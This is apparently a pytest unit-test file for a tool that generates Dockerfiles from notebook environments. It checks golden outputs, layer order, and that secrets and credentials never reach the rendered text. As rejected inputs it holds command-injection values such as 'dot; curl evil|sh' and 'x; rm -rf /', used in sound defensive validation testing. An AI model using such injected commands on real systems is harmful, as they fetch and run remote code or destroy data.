"""render(): golden files, determinism, layer order, and what never reaches the text.

Regenerate the golden files after an intended change with
``NBDOCKER_UPDATE_GOLDEN=1 pytest tests/unit/test_dockerfile.py`` and review the diff.
"""
from __future__ import annotations

import os
import re
from pathlib import Path
from typing import Dict, List

import pytest

from nbdocker.exceptions import InputError
from nbdocker.stages.image import (BuildOptions, build_files, default_tag, image_labels, render,
                                   install_script, render_app, render_system,
                                   requirements_txt, runner_requirements_txt)
from nbdocker.stages.image.dockerfile import RUNNER_TRIM
from nbdocker.engine.fake import dockerfile_instructions
from nbdocker.spec import (EnvironmentSpec, FileEntry, PythonInfo, Requirement, SystemPackage,
                           Unresolved)

GOLDEN = Path(__file__).resolve().parent.parent / "golden"
BASE = "python:3.11-slim"


@pytest.fixture(autouse=True)
def _fixed_version(monkeypatch: pytest.MonkeyPatch) -> None:
    # The nbdocker version is part of the text; pin it so a release bump keeps goldens.
    monkeypatch.setattr("nbdocker.stages.image.dockerfile._nbdocker_version", lambda: "0.0.0-test")


def _spec(**changes: object) -> EnvironmentSpec:
    spec = EnvironmentSpec(
        notebook="analysis.ipynb",
        python=PythonInfo("3.11.7"),
        requirements=(
            Requirement("pandas", "2.2.2", reasons=("import pandas (cell 1)",)),
            Requirement("numpy", "1.26.4", direct=False, required_by=("pandas",)),
            Requirement("requests", None, specifier=">=2.31"),
        ),
        unresolved=(Unresolved("sklearn", pypi_name="scikit-learn"), Unresolved("mystery")),
        files=(FileEntry("analysis.ipynb", "notebook", 10, "a" * 64),
               FileEntry("helpers.py", "module", 5, "b" * 64),
               FileEntry("data/x.csv", "data", 3, "c" * 64)),
    )
    return spec.with_changes(**changes) if changes else spec


CASES: Dict[str, tuple] = {
    "minimal-pip": (EnvironmentSpec(notebook="hello.ipynb", python=PythonInfo("3.12.1")),
                    BuildOptions(installer="pip")),
    "typical-uv-ca-index": (_spec(), BuildOptions(
        ca_bundle="/etc/ssl/certs/ca-certificates.crt",
        index_url="https://user:s3cr3t@pypi.example.com/simple",
        extra_index_urls=("https://mirror.example.com/simple",), installer="uv")),
    "single-uv-apt-guesses": (_spec(
        apt_packages=(SystemPackage("graphviz", "2.42.2-7+b3"), SystemPackage("ffmpeg"))),
        BuildOptions(installer="uv")),
    "apt-env-kernel-pinned": (_spec(
        apt_packages=(SystemPackage("libgomp1"), SystemPackage("fonts-dejavu-core")),
        env=(("MPLBACKEND", "Agg"), ("AWS_SECRET_ACCESS_KEY", "canary-env-1"),
             ("GITHUB_TOKEN", "canary-env-2")),
        requirements=(Requirement("ipykernel", "6.28.0"), Requirement("six", "1.16.0"))),
        BuildOptions(installer="pip")),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_render_matches_golden_file(case: str) -> None:
    spec, options = CASES[case]
    text = render(spec, base_image=BASE, options=options)
    golden = GOLDEN / f"{case}.Dockerfile"
    if os.environ.get("NBDOCKER_UPDATE_GOLDEN"):
        golden.write_text(text, encoding="utf-8")
    assert text == golden.read_text(encoding="utf-8")


def test_render_is_deterministic_and_order_independent() -> None:
    spec = _spec()
    shuffled = spec.with_changes(requirements=tuple(reversed(spec.requirements)),
                                 files=tuple(reversed(spec.files)))
    options = BuildOptions(ca_bundle="/x.pem")
    assert render(spec, base_image=BASE, options=options) == \
        render(shuffled, base_image=BASE, options=options)


def _stages(text: str) -> List[List[str]]:
    stages: List[List[str]] = []
    for instruction in dockerfile_instructions(text):
        if instruction.startswith("FROM "):
            stages.append([])
        stages[-1].append(instruction)
    return stages


def test_one_stage_without_ca_or_index_in_cache_order() -> None:
    spec = _spec(apt_packages=(SystemPackage("graphviz"),))
    (stage,) = _stages(render(spec, base_image=BASE, options=BuildOptions()))
    assert stage[0] == f"FROM {BASE}"
    kinds = [i.split()[0] for i in stage]
    apt = next(k for k, i in enumerate(stage) if "apt-get install" in i)
    copy_inputs = next(k for k, i in enumerate(stage) if "nbdocker-build/requirements.txt" in i)
    install = next(k for k, i in enumerate(stage) if "pip install" in i)
    runner = next(k for k, i in enumerate(stage) if "nbdocker_runner.py" in i)
    notebook = next(k for k, i in enumerate(stage) if "notebook/" in i)
    assert apt < copy_inputs < install < runner < notebook
    # Only metadata instructions (no filesystem layer) follow the notebook COPY.
    assert set(kinds[notebook + 1:]) <= {"CMD", "LABEL"}
    assert any(i.startswith("USER 1000") for i in stage)
    # uv and the build inputs are removed in the layer that used them; no build ENV stays.
    assert stage[install].endswith("rm -rf /tmp/nbdocker-uv /tmp/nbdocker-uv-venv "
                                   "/tmp/nbdocker-warmup /tmp/nbdocker-build")
    assert not any(i.startswith("ENV") and ("PIP_" in i or "UV_" in i) for i in stage)


def test_one_resolver_pass_for_the_notebook_and_the_runner() -> None:
    for options in (BuildOptions(installer="uv"), BuildOptions(installer="pip")):
        text = render(_spec(), base_image=BASE, options=options)
        install = next(i for i in dockerfile_instructions(text) if "pip install" in i)
        both = "-r /tmp/nbdocker-build/requirements.txt -r /tmp/nbdocker-build/runner-requirements.txt"
        # uv once (pip only as its fallback), or pip once.
        commands = install.split(both)
        assert len(commands) == (3 if options.installer == "uv" else 2), install
        assert "--constraint" not in install


def test_with_a_ca_or_index_the_text_shows_the_builder_stage_shape() -> None:
    options = BuildOptions(ca_bundle="/etc/ssl/certs/ca-certificates.crt",
                           index_url="https://u:p@idx.example/simple", installer="uv")
    text = render(_spec(apt_packages=(SystemPackage("graphviz"),)), base_image=BASE,
                  options=options)
    system, builder, env, final = _stages(text)
    assert system[0] == f"FROM {BASE} AS system" and any("apt-get" in i for i in system)
    assert builder[0] == "FROM system AS builder"
    assert any("ca-bundle.crt" in i and "pip.conf" in i for i in builder)
    assert env == ["FROM system AS env", "COPY --from=builder /opt/venv /opt/venv"]
    assert final[0] == "FROM env" and final[1].startswith("ENV PATH=/opt/venv/bin")
    assert "notebook/" in final[-3]
    for word in ("ca-bundle", "pip.conf", "uv.toml", "PIP_CERT", "SSL_CERT_FILE",
                 "nbdocker-uv", "ARG"):
        assert word not in "\n".join(env + final)
    # Neither the URL nor its password is ever part of the Dockerfile text.
    assert "idx.example" not in text and "u:p@" not in text


def test_system_install_and_app_parts_are_the_full_dockerfile() -> None:
    options = BuildOptions(ca_bundle="/x.pem")
    system, builder, env, final = _stages(render(_spec(), base_image=BASE, options=options))
    assert dockerfile_instructions(render_system(_spec(), base_image=BASE)) == \
        [f"FROM {BASE}"] + system[1:]
    assert builder[-1] == "RUN " + " ".join(install_script(_spec(), options).replace("\\\n", " ").split())
    app = dockerfile_instructions(render_app(_spec(), env_image="sha256:abc", base_image=BASE))
    assert app == ["FROM sha256:abc"] + final[1:]
    # A notebook edit changes the app part only; the install script reads only files.
    edited = _spec(files=(FileEntry("analysis.ipynb", "notebook", 11, "d" * 64),))
    assert render_system(edited, base_image=BASE) == render_system(_spec(), base_image=BASE)
    assert install_script(edited, options) == install_script(_spec(), options)


def test_secret_looking_env_vars_are_not_rendered() -> None:
    spec = _spec(env=(("MPLBACKEND", "Agg"), ("DB_PASSWORD", "canary-7f3a"),
                      ("API_TOKEN", "canary-9b1c")))
    text = render(spec, base_image=BASE)
    assert 'MPLBACKEND="Agg"' in text
    assert "canary-" not in text
    assert "DB_PASSWORD" not in text and "API_TOKEN" not in text


def test_requirements_txt_pins_sorted_without_guesses_or_local_source() -> None:
    spec = _spec(unresolved=(Unresolved("sklearn", pypi_name="scikit-learn"),
                             Unresolved("numpy")),
                 requirements=_spec().requirements + (
                     Requirement("mypkg", "0.1.0", local="src/mypkg"),))
    assert requirements_txt(spec).splitlines() == [
        "numpy==1.26.4", "pandas==2.2.2", "requests>=2.31"]


def test_guesses_travel_in_a_file_each_with_why() -> None:
    spec = _spec(unresolved=(Unresolved("sklearn", ("import sklearn (cell 2)",), "scikit-learn"),
                             Unresolved("mystery", ("from mystery import x (helpers.py)",)),
                             Unresolved("numpy", pypi_name="numpy")))   # pinned: no guess
    files = build_files(spec)
    assert files["guesses.txt"].decode().splitlines() == [
        "mystery\t`from mystery import x` in helpers.py",
        "scikit-learn\t`import sklearn` in cell 2"]
    text = render(spec, base_image=BASE)
    assert "scikit-learn" not in text and "mystery" not in text   # names stay out of the text
    assert "nbdocker-guess-failed: " in text
    assert "guesses.txt" not in render(_spec(unresolved=()), base_image=BASE)
    with pytest.raises(InputError, match="not a distribution name"):   # nbdocker.grammar
        build_files(_spec(unresolved=(Unresolved("x", pypi_name="x; rm -rf /"),)))


def test_runner_requirements_yield_to_the_spec_pins() -> None:
    assert runner_requirements_txt(_spec()).splitlines() == [
        "ipykernel==6.29.5", "nbclient==0.10.2"]
    pinned = _spec(requirements=(Requirement("ipykernel", "7.4.0"),))
    assert runner_requirements_txt(pinned).splitlines() == ["nbclient==0.10.2"]
    both = _spec(requirements=(Requirement("ipykernel", "7.4.0"), Requirement("nbclient", "0.9.0")))
    assert runner_requirements_txt(both) == ""


def test_apt_layer_is_sorted_quoted_pinned_and_cleans_its_lists() -> None:
    spec = _spec(apt_packages=(SystemPackage("libgomp1"), SystemPackage("graphviz", "2.42.2-7+b3")))
    (apt,) = [i for i in dockerfile_instructions(render(spec, base_image=BASE))
              if "apt-get" in i]
    assert apt == ("RUN apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y "
                   "--no-install-recommends graphviz=2.42.2-7+b3 libgomp1 "
                   "&& rm -rf /var/lib/apt/lists/*")
    for bad in (SystemPackage("dot; curl evil|sh"), SystemPackage("Graphviz"),
                SystemPackage("graphviz", "1\nRUN x"), SystemPackage("a\nb")):
        with pytest.raises(InputError, match="not a Debian (package name|version)"):
            render(_spec(apt_packages=(bad,)), base_image=BASE)


def test_warmup_imports_the_kernel_stack_and_what_the_notebook_imports() -> None:
    spec = _spec(requirements=(
        Requirement("matplotlib", "3.9.2", reasons=("import matplotlib.pyplot (cell 1)",
                                                    "%matplotlib (cell 0)")),
        Requirement("pandas", "2.2.2", reasons=("from pandas.plotting import x (cell 2)",)),
        Requirement("six", "1.16.0", direct=False)))
    modules = build_files(spec)["warmup.txt"].decode().split()
    assert modules == ["matplotlib.pyplot", "mystery", "pandas.plotting", "sklearn"]
    script = install_script(spec, BuildOptions())
    assert "warmup.py nbclient ipykernel.kernelapp ipykernel.ipkernel" in script


def test_default_tag_is_sanitised_and_hash_based() -> None:
    spec = EnvironmentSpec(notebook="work/My Notebook (v2).ipynb", python=PythonInfo("3.11.7"))
    tag = default_tag(spec)
    assert tag == f"nbdocker/my-notebook-v2:{spec.content_hash()[:12]}"
    assert re.fullmatch(r"nbdocker/[a-z0-9][a-z0-9._-]*:[0-9a-f]{12}", tag)
    odd = EnvironmentSpec(notebook="...ipynb", python=PythonInfo("3.11.7"))
    assert default_tag(odd).startswith("nbdocker/notebook:")


def test_image_labels_name_the_spec() -> None:
    spec = _spec()
    labels = image_labels(spec, "python:3.11-slim")
    assert labels["io.nbdocker.spec-hash"] == spec.content_hash()
    assert labels["io.nbdocker.notebook"] == "analysis.ipynb"
    assert labels["io.nbdocker.python"] == "3.11.7"
    assert labels["io.nbdocker.version"] == "0.0.0-test"
    assert labels["org.opencontainers.image.base.name"] == "python:3.11-slim"
    assert labels["org.opencontainers.image.title"] == "analysis"


def test_runner_only_packages_are_never_installed_unless_the_notebook_needs_them() -> None:
    assert build_files(_spec())["overrides.txt"].decode().splitlines() == [
        'debugpy ; sys_platform == "never"', 'jedi ; sys_platform == "never"',
        'parso ; sys_platform == "never"']
    pip = render(_spec(), base_image=BASE, options=BuildOptions(installer="pip"))
    assert "pip uninstall --quiet --yes debugpy jedi parso setuptools" in pip
    # A notebook whose own closure needs jedi (a package that is not the kernel's) keeps it.
    needs_jedi = _spec(requirements=(Requirement("ipython", "8.20.0"),
                                     Requirement("jedi", "0.19.1", direct=False,
                                                 required_by=("ipython",)),
                                     Requirement("parso", "0.8.3", direct=False,
                                                 required_by=("jedi",))))
    assert build_files(needs_jedi)["overrides.txt"] == b'debugpy ; sys_platform == "never"\n'
    assert "jedi==0.19.1" in requirements_txt(needs_jedi)
    # Pinned only for the kernel stack (capture marks it `kernel`): still left out.
    kernel = _spec(requirements=(
        Requirement("ipython", "8.20.0", direct=False, kernel=True, required_by=("ipykernel",)),
        Requirement("ipykernel", "6.29.5", direct=False, kernel=True),
        Requirement("jedi", "0.19.1", direct=False, kernel=True, required_by=("ipython",)),
        Requirement("six", "1.16.0")))
    assert "jedi" not in requirements_txt(kernel) and "ipython==8.20.0" in requirements_txt(kernel)
    assert "jedi ; " in build_files(kernel)["overrides.txt"].decode()
    everything = _spec(requirements=tuple(Requirement(n, "1.0") for n in RUNNER_TRIM))
    assert "overrides.txt" not in build_files(everything)
    assert "--overrides" not in render(everything, base_image=BASE)
